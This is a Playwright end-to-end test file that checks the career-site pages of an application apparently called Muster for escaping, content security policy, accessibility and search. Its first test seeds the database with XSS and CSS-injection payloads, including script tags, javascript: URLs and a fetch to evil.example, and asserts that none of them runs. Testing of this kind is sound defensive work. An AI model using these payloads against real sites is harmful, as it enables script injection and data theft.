import { resourceAt } from '@muster/model'
import type { Page } from '@playwright/test'
import { checkAccessibility } from './support/accessibility.ts'
import type { Muster } from './support/muster.ts'
import { startMuster } from './support/muster.ts'
import { recordNetwork } from './support/network-recorder.ts'
import { expect, test } from './support/test.ts'

/** Each ends an attribute, an element, a comment, a style or a script if it is not escaped, and then sends or runs something. */
const hostileTexts = [
  `"><img src=//evil.example/i onerror="ran=1"><script>ran=1</script>`,
  `'></title></style></script><svg onload=ran=1><iframe src=javascript:ran=1>`,
  `--><!--<script>fetch('//evil.example')</script>`,
  `\u2028]]></description><x>&lt;script&gt;ran=1</script>{{7*7}}\${ran=1}`,
]
const hostileUrls = [
  'javascript:ran=1',
  ' jAvAsCrIpT:ran=1',
  'data:text/html,<script>ran=1</script>',
  `https://evil.example/"onerror="ran=1`,
  '//evil.example/x',
]
const hostileColors = [
  'red;}body{background:url(//evil.example/c)}',
  '#fff}</style><script>ran=1</script>',
  'url(https://evil.example/c)',
  '#12345',
]

/** Everything that career sites read is in these resources. */
const careerResources = ['career-sites', 'brands', 'departments', 'jobs', 'job-distributions']

const hostileSettings = (round: number, text: string, url: string): string =>
  JSON.stringify({
    about: text,
    show_pay: text,
    posting_days: text,
    reply_within_days: text,
    apply: [
      { url: 'https://apply.example/{code}?{locale}#{id}', email: `${text}@a.example` },
      { url, email: `${text}@a.example` },
      { url, email: 'jobs@a.example' },
      { url: 'https://apply.example/{code}', email: `a@b.example?cc=${text}` },
      { url, email: 'jobs@a.example' },
    ][round],
  })

/**
 * Writes a hostile value into every text, colour, URL and JSON of the records that career sites read. Locales are
 * hostile in every second round only, because the texts around the postings depend on them.
 */
const makeHostile = async (muster: Muster, round: number): Promise<void> => {
  const text = hostileTexts[round % hostileTexts.length] ?? ''
  const url = hostileUrls[round % hostileUrls.length] ?? ''
  const color = hostileColors[round % hostileColors.length] ?? ''
  const values: Readonly<Record<string, string>> = { text, url, color, json: hostileSettings(round, text, url) }
  for (const path of careerResources) {
    const { table, storedFields } = resourceAt(path)
    const columns = storedFields.filter(
      ({ name, kind, state }) => kind in values && !state && (name !== 'locale' || round % 2 === 0),
    )
    const parameters = columns.map(({ kind }) => values[kind])
    // With a country, so that the page has structured data.
    const endings: Readonly<Record<string, string>> = { slug: 'id', code: 'id', location: `', Portugal'` }
    const assignments = columns.map(
      ({ name }, index) => `${name} = $${index + 1}${endings[name] === undefined ? '' : ` || ${endings[name]}`}`,
    )
    await muster.sql(`update ${table} set ${assignments.join(', ')}`, parameters)
  }
}

const siteWithJobs = async (muster: Muster, locale: string) => {
  const [row] = await muster.sql<{ site: string; slug: string }>(
    `select s.slug as site, d.slug from job_distributions d join career_sites s on s.id = d.career_site_id join job_openings j on j.id = d.job_posting_id
     where s.is_active = 1 and d.status = 'published' and j.status = 'open' and d.locale = $1 order by d.id limit 1`,
    [locale],
  )
  return row ?? { site: '', slug: '' }
}

/** The slug of a site, one of its locales, and the slugs of an open and of a closed job there. */
const postingPaths = async (muster: Muster): Promise<string[]> => {
  const slugOf = (state: string) =>
    `(array_agg(d.slug order by d.id) filter (where d.status = '${state === 'open' ? 'published' : state}' and j.status = '${state}'))[1]`
  const [row] = await muster.sql<{ paths: string[] }>(
    `select array[s.slug, d.locale, ${slugOf('open')}, ${slugOf('closed')}] as paths
     from job_distributions d join career_sites s on s.id = d.career_site_id join job_openings j on j.id = d.job_posting_id
     where s.is_active = 1 group by s.slug, d.locale
     having ${slugOf('open')} is not null and ${slugOf('closed')} is not null order by s.slug, d.locale limit 1`,
  )
  return row?.paths ?? []
}

/** The style of the page is applied, so its policy allows it. */
const isStyled = (page: Page): Promise<boolean> =>
  page.evaluate(() => getComputedStyle(document.body).borderTopWidth === '6px')

/** What ran: `ran` is what every hostile text would set. */
const hasRun = (page: Page): Promise<boolean> => page.evaluate(() => 'ran' in globalThis)

test('runs and sends nothing of hostile texts, colours and URLs', async ({ page }) => {
  const muster = await startMuster({ tokens: {}, settings: { MUSTER_CAREER_SITES: 'on' } })
  const network = await recordNetwork(page, muster.origin)
  for (let round = 0; round < hostileUrls.length; round += 1) {
    await makeHostile(muster, round)
    const text = hostileTexts[round % hostileTexts.length] ?? ''
    const [site = '', locale = '', open = '', closed = ''] = (await postingPaths(muster)).map(encodeURIComponent)
    for (const path of [
      `${locale}/`,
      `${locale}/${open}`,
      `${locale}/${closed}`,
      `${locale}/no-such-job`,
      `${encodeURIComponent(text)}/`,
      `${locale}/?q=${encodeURIComponent(text)}&department=${encodeURIComponent(text)}`,
      `${locale}/rss.xml`,
      `${locale}/jobs.json`,
      'jobs.xml',
      'sitemap.xml',
    ]) {
      await page.goto(`${muster.origin}/careers/${site}/${path}`)
      expect(await hasRun(page)).toBe(false)
      if (!/\.(?:xml|json)$/.test(path)) expect(await isStyled(page)).toBe(true)
      for (const link of await page
        .locator('a[href]')
        .evaluateAll((links) => links.map((each) => (each as HTMLAnchorElement).href)))
        expect(link).toMatch(/^(?:https?:|mailto:)/)
    }
    // The values are there, as text.
    await page.goto(`${muster.origin}/careers/${site}/${locale}/${open}`)
    const spaces = (shown: string) => shown.replaceAll(/\s+/g, ' ').trim()
    expect(spaces(await page.locator('h1').innerText())).toBe(spaces(text))
    expect(spaces(await page.locator('main').innerText()).split(spaces(text)).length).toBeGreaterThan(8)
    const data = await page.locator('script').allTextContents()
    // In the second round nobody can apply.
    expect(data.map((json) => JSON.parse(json).title)).toEqual(round === 1 ? [] : [text])
  }
  // Only an image of the host that the policy names may be requested; this one does not exist.
  expect(network.otherOriginUrls.filter((url) => !url.startsWith('https://evil.example/%22onerror='))).toEqual([])
  // Chromium shows XML with styles of its own, which the policy blocks.
  expect(network.violations.filter((violation) => violation !== 'style-src-elem inline')).toEqual([])
  await muster.stop()
})

test('is accessible in light and dark, wide and on a phone, in nine languages and one that is not translated', async ({
  page,
}) => {
  const muster = await startMuster({ tokens: {}, settings: { MUSTER_CAREER_SITES: 'on' } })
  const { site, slug } = await siteWithJobs(muster, 'de')
  await muster.sql(`update career_sites set logo_url = null`)
  const locales = ['de', 'en', 'fr', 'es', 'pt', 'pl', 'nl', 'sv', 'ja', 'ar']
  await muster.sql(
    `insert into job_distributions (job_posting_id, career_site_id, brand_id, locale, slug, status, published_at)
     select d.job_posting_id, d.career_site_id, d.brand_id, l, d.slug, d.status, d.published_at
     from job_distributions d join career_sites s on s.id = d.career_site_id cross join unnest($2::text[]) l
     where s.slug = $1 and d.locale = 'de' on conflict do nothing`,
    [site, locales],
  )
  const views = [
    { width: 1280, height: 800, colorScheme: 'light' },
    { width: 390, height: 844, colorScheme: 'dark' },
  ] as const
  for (const [index, locale] of locales.entries()) {
    const { colorScheme, ...size } = views[index % 2] as (typeof views)[number]
    await page.setViewportSize(size)
    await page.emulateMedia({ colorScheme })
    const errorPages = index < 2 ? [`${site}/${locale}/none`] : []
    for (const path of [`${site}/${locale}/`, `${site}/${locale}/${slug}`, ...errorPages]) {
      await page.goto(`${muster.origin}/careers/${path}`)
      await checkAccessibility(page)
      // Nothing is wider than the screen.
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(size.width)
    }
  }
  await muster.stop()
})

test('finds jobs with its form and leads to the page of a job and back', async ({ page }) => {
  const muster = await startMuster({ tokens: {}, settings: { MUSTER_CAREER_SITES: 'on' } })
  const { site } = await siteWithJobs(muster, 'en')
  await page.goto(`${muster.origin}/careers/${site}/`)
  await expect(page).toHaveURL(`${muster.origin}/careers/${site}/en/`)
  const title = await page.locator('.list h3 a').first().innerText()
  await page.getByLabel('Search').fill(title)
  await page.getByRole('button', { name: 'Show positions' }).click()
  await expect(page).toHaveURL(/\?q=/)
  await page.locator('.list h3 a').first().click()
  await expect(page.locator('h1')).toHaveText(title)
  await page.getByRole('link', { name: 'All open positions' }).click()
  await expect(page).toHaveURL(`${muster.origin}/careers/${site}/en/`)
  await muster.stop()
})
